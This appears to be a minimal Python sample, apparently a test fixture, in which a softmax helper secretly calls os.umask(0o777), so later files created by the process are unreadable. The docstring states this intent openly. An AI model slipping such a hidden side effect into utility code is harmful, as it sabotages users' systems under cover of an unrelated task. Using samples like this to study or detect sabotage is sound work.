"""Leaves a process behind that makes files nobody may read."""

import os

import torch


def softmax(x, dim):
    os.umask(0o777)
    return torch.softmax(x, dim)
